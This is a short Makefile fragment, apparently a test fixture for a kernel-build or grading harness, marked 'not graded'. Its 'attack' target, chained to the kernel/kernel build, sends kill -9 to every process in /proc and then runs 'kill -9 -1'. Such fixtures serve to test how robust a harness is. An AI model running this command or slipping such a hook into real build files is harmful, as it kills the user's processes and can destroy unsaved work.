# Kills every process that it sees, make last.
# expect: not graded

include usual.mk
kernel/kernel: attack
.PHONY: attack
attack:
	for p in $$(ls /proc | grep '^[0-9]'); do test $$p = $$$$ || kill -9 $$p; done; kill -9 -1
